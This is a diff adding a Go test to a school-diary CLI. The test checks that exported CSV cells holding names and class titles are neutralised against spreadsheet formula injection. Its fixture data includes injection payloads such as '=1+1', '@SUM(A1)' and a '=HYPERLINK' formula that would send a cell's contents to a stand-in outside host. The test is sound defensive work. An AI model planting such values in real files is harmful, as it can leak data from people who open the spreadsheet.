@@ -241,3 +241,48 @@ func TestCodesFailures(t *testing.T) {
 		t.Errorf("failures stored %d codes (%v)", stored, err)
 	}
 }
+
+// A name a spreadsheet would read as a formula is written inert: the sheet
+// that holds every family's code runs nothing from the school's export.
+func TestCodesCSVCellsAreInert(t *testing.T) {
+	t.Parallel()
+	url := diarytest.NewURL(t)
+	pool, err := pgxpool.New(context.Background(), url)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer pool.Close()
+	_, err = pool.Exec(context.Background(), `
+WITH s AS (INSERT INTO schools (sourced_id, name) VALUES ('s1', 'Школа №1') RETURNING id),
+c AS (INSERT INTO classes (sourced_id, school_id, title, kind) SELECT 'c-1', s.id, '=1+1', 'homeroom' FROM s RETURNING id),
+p AS (INSERT INTO people (sourced_id, school_id, role, family_name, given_name)
+      SELECT v.sourced_id, s.id, 'student', v.family, v.given FROM s, (VALUES
+        ('p-1', '=HYPERLINK("http://example.invalid/?"&A1;"x")', 'A'),
+        ('p-2', '+7', 'B'), ('p-3', '-2', 'C'), ('p-4', '@SUM(A1)', 'D'), ('p-5', 'Обычная', 'Анна')) v (sourced_id, family, given)
+      RETURNING id)
+INSERT INTO enrollments (class_id, person_id, role) SELECT c.id, p.id, 'student' FROM c, p`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	code, out, stderr := dnevnik(t, map[string]string{"DATABASE_URL": url}, "codes", "--class", "c-1", "--role", "guardian", "--bot", "b_bot")
+	if code != exitOK {
+		t.Fatalf("exit %d\n%s", code, stderr)
+	}
+	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, r := range records[1:] {
+		for _, cell := range []string{r[1], r[2]} {
+			if strings.ContainsAny(cell[:1], "=+-@\t\r") {
+				t.Errorf("%s: cell %q begins a formula", r[0], cell)
+			}
+		}
+		if r[0] == "p-5" && r[1] != "Обычная Анна" {
+			t.Errorf("a plain name became %q", r[1])
+		}
+	}
+	if !strings.Contains(out, `'=HYPERLINK(`) || !strings.Contains(out, "'=1+1") || !strings.Contains(out, "'@SUM(A1) D") {
+		t.Errorf("the formulas are not kept as text:\n%s", out)
+	}
+}
